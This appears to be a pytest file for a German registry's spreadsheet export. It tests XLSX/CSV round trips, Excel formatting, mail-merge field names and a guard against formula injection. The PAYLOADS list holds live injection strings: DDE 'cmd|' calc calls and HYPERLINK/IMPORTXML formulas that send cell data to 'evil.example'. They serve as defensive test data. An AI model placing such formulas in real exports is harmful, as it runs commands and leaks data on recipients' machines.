"""Exports: what Excel and other programs find in them, and that our own import reads them again."""

import csv
import io
import re
from collections.abc import AsyncIterator, Mapping, Sequence
from datetime import UTC, date, datetime
from typing import Any
from xml.etree import ElementTree as ET

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from registry.spreadsheets import kinds
from registry.spreadsheets.checking import Checker
from registry.spreadsheets.choices import choices
from registry.spreadsheets.columns import Column, Layout
from registry.spreadsheets.mapping import find_header, suggest_mapping
from registry.spreadsheets.reading import open_table
from shared.sheets import writing
from shared.sheets.cells import tidy
from shared.sheets.inert import guard, looks_like_formula, unguard
from shared.sheets.writing import csv_chunks, field_names, write_mail_merge, write_xlsx
from testkit.workbooks import XLSX_SHEET, file_of, unpacked

from .lists import FIELDS

COLUMNS = (
    Column("name", "Name", kinds.LINE),
    Column("postcode", "Postleitzahl", kinds.POSTCODE),
    Column("phone", "Telefon", kinds.PHONE),
    Column("born", "Geboren am", kinds.DAY),
    Column("members", "Mitglieder", kinds.WHOLE),
    Column("fee", "Beitrag", kinds.DECIMAL),
    Column("active", "aktiv", kinds.YES_NO),
    Column("fields", "Einsatzfelder", choices(FIELDS)),
    Column("note", "Bemerkung", kinds.PROSE),
)
LAYOUT = Layout(COLUMNS)
KIM = {
    "name": "Kim Großmann",
    "postcode": "06774",
    "phone": "+493495520100",
    "born": date(1950, 12, 24),
    "members": 1234,
    "fee": 12.5,
    "active": True,
    "fields": ["sport", "culture"],
    "note": "eins\nzwei",
}
MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


async def one_by_one(rows: Sequence[Mapping[str, Any]]) -> AsyncIterator[Mapping[str, Any]]:
    for row in rows:
        yield row


async def as_xlsx(rows: Sequence[Mapping[str, Any]], columns: Sequence[Column] = COLUMNS) -> bytes:
    buffer = io.BytesIO()
    assert await write_xlsx(buffer, columns, one_by_one(rows), title="Freiwillige") == len(rows)
    return buffer.getvalue()


async def as_csv(rows: Sequence[Mapping[str, Any]], columns: Sequence[Column] = COLUMNS) -> bytes:
    return b"".join([chunk async for chunk in csv_chunks(columns, one_by_one(rows))])


async def read_back(content: bytes, layout: Layout = LAYOUT) -> list[dict[str, Any]]:
    with file_of(content) as file:
        async with open_table(file) as table:
            header = find_header(await table.first_rows(), layout, 1)
            checker = Checker(layout, header, suggest_mapping(header, layout))
            checked = [found for row in await table.first_rows(10_000) if (found := checker.check(row))]
    assert [problem for row in checked for problem in row.problems if not problem.hint] == []
    return [row.values for row in checked]


def sheet_of(content: bytes) -> ET.Element:
    return ET.fromstring(unpacked(content)[XLSX_SHEET])


@pytest.mark.parametrize("write", [as_xlsx, as_csv])
async def test_what_is_exported_can_be_imported(write: Any) -> None:
    nothing = dict.fromkeys(KIM) | {"name": "Nur ein Name"}
    assert await read_back(await write([KIM, nothing])) == [KIM, nothing]


async def test_csv_as_a_german_excel_reads_it() -> None:
    content = await as_csv([KIM])
    assert content.startswith(b"\xef\xbb\xbf")
    header, row = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";")
    assert header[:2] == ["Name", "Postleitzahl"]
    assert row[:4] == ["Kim Großmann", "06774", "034955 20100", "24.12.1950"]
    assert row[4:] == ["1234", "12,5", "ja", "Sport und Bewegung; Kultur und Musik", "eins\nzwei"]
    assert content.endswith(b"\r\n")


async def test_csv_comes_in_pieces() -> None:
    chunks = [chunk async for chunk in csv_chunks(COLUMNS, one_by_one([KIM] * 1_000))]
    assert len(chunks) > 3
    assert b"".join(chunks).count(b"Kim") == 1_000


async def test_xlsx_has_a_header_that_stays_and_filters() -> None:
    sheet = sheet_of(await as_xlsx([KIM, KIM]))
    pane = sheet.find(f"{MAIN}sheetViews/{MAIN}sheetView/{MAIN}pane")
    assert pane is not None
    assert pane.attrib.items() >= {"ySplit": "1", "state": "frozen"}.items()
    filtered = sheet.find(f"{MAIN}autoFilter")
    assert filtered is not None
    assert filtered.attrib["ref"] == "A1:I3"
    assert len(sheet.findall(f"{MAIN}cols/{MAIN}col")) >= 5


async def test_xlsx_has_real_dates_and_numbers_and_texts() -> None:
    content = await as_xlsx([KIM])
    cells = {cell.attrib["r"]: cell for cell in sheet_of(content).iter(f"{MAIN}c")}
    assert cells["B2"].attrib["t"] == "inlineStr"
    assert "t" not in cells["D2"].attrib
    assert cells["D2"].findtext(f"{MAIN}v") == "18621"
    assert cells["E2"].findtext(f"{MAIN}v") == "1234"
    styles = unpacked(content)["xl/styles.xml"].decode()
    formats = ET.fromstring(styles).findall(f"{MAIN}cellXfs/{MAIN}xf")
    assert 'formatCode="dd.mm.yyyy"' in styles
    assert formats[int(cells["B2"].attrib["s"])].attrib["numFmtId"] == "49"  # text: Excel leaves 06774 alone


async def test_xlsx_says_its_title_and_language() -> None:
    core = unpacked(await as_xlsx([KIM]))["docProps/core.xml"].decode()
    assert "<dc:title>Freiwillige</dc:title>" in core
    assert "<dc:language>de-DE</dc:language>" in core


async def test_days_before_excels_calendar_and_moments() -> None:
    columns = (Column("day", "Tag", kinds.DAY),)
    late = datetime(2024, 7, 1, 23, 30, tzinfo=UTC)  # the next day in Germany
    rows: list[dict[str, Any]] = [{"day": date(1900, 2, 28)}, {"day": date(1900, 3, 1)}, {"day": late}]
    days = [date(1900, 2, 28), date(1900, 3, 1), date(2024, 7, 2)]
    assert [row["day"] for row in await read_back(await as_xlsx(rows, columns), Layout(columns))] == days
    assert [row["day"] for row in await read_back(await as_csv(rows, columns), Layout(columns))] == days


async def test_a_text_longer_than_a_cell_of_excel() -> None:
    columns = (Column("note", "Notiz", kinds.PROSE),)
    (cell,) = list(sheet_of(await as_xlsx([{"note": "x" * 40_000}], columns)).iter(f"{MAIN}c"))[1:]
    text = "".join(cell.itertext())
    assert len(text) == 32_767
    assert text.endswith("…")


@pytest.mark.parametrize("title", ["Vereine: [Stand] 2026/11 *?", "'x'", "", "Sehr lange Überschrift einer Liste 2026"])
async def test_any_title_gives_a_sheet(title: str) -> None:
    buffer = io.BytesIO()
    await write_xlsx(buffer, COLUMNS, one_by_one([KIM]), title=title)
    assert len(await read_back(buffer.getvalue())) == 1


async def test_nothing_stays_behind_when_the_rows_break_off(monkeypatch: pytest.MonkeyPatch, tmp_path: Any) -> None:
    async def broken() -> AsyncIterator[Mapping[str, Any]]:
        yield KIM
        raise ConnectionResetError

    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))
    with pytest.raises(ConnectionResetError):
        await write_xlsx(io.BytesIO(), COLUMNS, broken(), title="x")
    assert list(tmp_path.rglob("*")) == []


SIGNS = "=+-@＝＋－＠"
PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://evil.example?x="&A1,"Klick")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://evil.example?",A1),"//a")',
    "=WEBSERVICE(A1)",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
]
FRAMES = ["{}", " {}", "\t{}", "\r{}", "\n{}", '"{}', "a;{};b", "a,{},b", "a\t{}", "a\n{}", 'a";"{}', 'a,"{}"']
FRAMES += ["a;\r\n{}", "'{}", ";'{}", ' "" {}', "{0};{0}"]
CORPUS = [frame.format(payload) for frame in FRAMES for payload in PAYLOADS]


def formulas_in(content: bytes) -> list[str]:
    """Cells that some spreadsheet would calculate: with any list separator, minding quotation marks or not."""
    text = content.decode("utf-8-sig")
    cells = []
    for delimiter in ";,\t":
        cells += [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row]
        cells += re.split(f"[{delimiter}\r\n]", text)
    return [cell for cell in cells if (bare := cell.lstrip('\t\r\n "')) and bare[0] in SIGNS]


def test_the_corpus_is_large_enough() -> None:
    assert len(set(CORPUS)) >= 200


@pytest.mark.parametrize("field", ["name", "note"])
async def test_no_formula_gets_into_csv(field: str) -> None:
    for payload in CORPUS:
        content = await as_csv([{field: payload}])
        assert formulas_in(content) == [], payload
        assert unguard(guard(payload)) == payload


async def test_the_corpus_is_dangerous_without_the_guard(monkeypatch: pytest.MonkeyPatch) -> None:
    """The control run."""
    monkeypatch.setattr(writing, "guard", lambda text: text)
    harmless = [payload for payload in CORPUS if not formulas_in(await as_csv([{"note": payload}]))]
    assert all("'" in payload for payload in harmless)
    assert len(harmless) < len(CORPUS) / 5


async def test_no_formula_gets_into_xlsx() -> None:
    content = await as_xlsx([{"name": payload, "note": payload} for payload in CORPUS])
    sheet = sheet_of(content)
    assert list(sheet.iter(f"{MAIN}f")) == []
    assert list(sheet.iter(f"{MAIN}hyperlink")) == []
    assert {cell.attrib.get("t") for cell in sheet.iter(f"{MAIN}c")} == {"inlineStr"}
    assert [row["name"] for row in await read_back(content)] == [" ".join(payload.split()) for payload in CORPUS]


@given(st.text(st.sampled_from(f"{SIGNS}'\";,\t\r\n a") | st.characters(codec="utf-8"), max_size=30))
@settings(max_examples=1_000)
def test_guarding_can_be_taken_back(text: str) -> None:
    assert unguard(guard(text)) == text


def test_what_looks_like_a_formula() -> None:
    assert all(map(looks_like_formula, PAYLOADS))
    assert not any(map(looks_like_formula, ["- Musik", "-", "—", "Musik", "+ Sport", "a=b", ""]))


CHARACTERS = st.characters(codec="utf-8", exclude_categories=["C", "Z", "M"]) | st.sampled_from(" =+-@'\";,")
TEXTS = st.text(CHARACTERS, max_size=30)
NAMES = TEXTS.map(str.strip).filter(lambda text: any(char.isalnum() for char in text))
PEOPLE = st.fixed_dictionaries(
    {
        "name": NAMES,
        "postcode": st.none() | st.integers(0, 99_999).map("{:05}".format),
        "phone": st.none() | st.integers(0, 9_999_999).map("+4934955{:07}".format),
        "born": st.none() | st.dates(date(1900, 1, 1), date(2199, 12, 31)),
        "members": st.none() | st.integers(-(10**9), 10**9),
        "fee": st.none() | st.integers(-(10**6), 10**6).map(lambda cents: cents / 100),
        "active": st.none() | st.booleans(),
        "fields": st.none() | st.lists(st.sampled_from(sorted(FIELDS)), min_size=1, unique=True),
        "note": st.none() | NAMES,
    }
)


@pytest.mark.parametrize("write", [as_xlsx, as_csv])
async def test_any_list_comes_back_as_it_was(write: Any) -> None:
    """One file with many drawn rows: a process is started for each file."""
    rows: list[dict[str, Any]] = []

    @given(st.lists(PEOPLE, max_size=5))
    @settings(max_examples=100)
    def draw(some: list[dict[str, Any]]) -> None:
        rows.extend(some)

    draw()
    normal = [row | {key: tidy(row[key]) for key in ("name", "note") if row[key]} for row in rows]
    assert await read_back(await write(rows)) == normal


async def test_a_mail_merge_sheet_is_text_from_its_first_row_on() -> None:
    buffer = io.BytesIO()
    assert await write_mail_merge(buffer, COLUMNS, one_by_one([KIM])) == 1
    cells = list(sheet_of(buffer.getvalue()).iter(f"{MAIN}c"))
    assert {cell.attrib.get("t") for cell in cells} == {"inlineStr"}
    texts = ["".join(cell.itertext()) for cell in cells]
    assert texts[: len(COLUMNS)] == field_names([column.header for column in COLUMNS])
    assert texts[len(COLUMNS) + 3 : len(COLUMNS) + 7] == ["24.12.1950", "1234", "12,5", "ja"]


def test_names_of_merge_fields() -> None:
    headers = ["Briefanrede", "E-Mail (privat)", "1. Vorsitz", "Straße/Nr.", "E-Mail privat", "!", "x" * 60, "X" * 60]
    assert field_names(headers) == [
        "Briefanrede",
        "E_Mail_privat",
        "F_1_Vorsitz",
        "Straße_Nr",
        "E_Mail_privat_2",
        "Feld",
        "x" * 40,
        f"{'X' * 36}_2",
    ]


@given(st.lists(st.text(), max_size=20))
def test_names_of_merge_fields_are_always_possible(headers: list[str]) -> None:
    names = field_names(headers)
    assert len({name.casefold() for name in names}) == len(headers)
    assert all(re.fullmatch(r"[^\W\d_]\w{0,39}", name) for name in names)
